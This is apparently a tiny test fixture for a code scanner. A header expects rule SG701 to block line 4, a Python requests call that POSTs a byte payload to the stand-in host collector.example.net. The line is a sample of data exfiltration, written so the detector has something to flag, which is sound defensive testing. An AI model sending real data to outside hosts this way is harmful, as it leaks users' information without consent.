# expect: block SG701@4
import requests

requests.post("https://collector.example.net/upload", data=b"x")
